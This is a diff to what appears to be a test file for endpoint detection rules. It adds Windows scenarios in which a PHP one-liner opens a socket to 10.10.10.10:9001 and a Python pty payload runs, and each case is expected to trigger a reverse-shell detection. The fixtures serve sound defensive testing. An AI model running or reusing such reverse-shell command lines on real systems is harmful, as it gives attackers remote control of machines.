@@ -105,6 +105,11 @@ WINDOWS_SCENARIOS: list[tuple[str, Exec, set[str]]] = [
                                 windows=True, parent=TOMCAT), {WEBSHELL_RECON}),
     ("help-under-explorer", Exec(("python", "-h"), "C:\\Python311\\python.exe", user="alice", domain="CORP",
                                  windows=True, parent=EXPLORER), set()),
+    # the command-line rules know no OS: typed in cmd.exe, the code is in double quotes
+    ("php-fsockopen-windows", Exec(("php", "-r", "$s = fsockopen('10.10.10.10', 9001);"), "C:\\php\\php.exe",
+                                   user="alice", domain="CORP", windows=True, parent=EXPLORER), {PHP_FSOCKOPEN}),
+    ("python-pty-windows", Exec(("python", "-c", PY_PAYLOAD.replace('"', "'")), "C:\\Python311\\python.exe",
+                                user="alice", domain="CORP", windows=True, parent=EXPLORER), {PYTHON_PTY}),
 ]
 
 
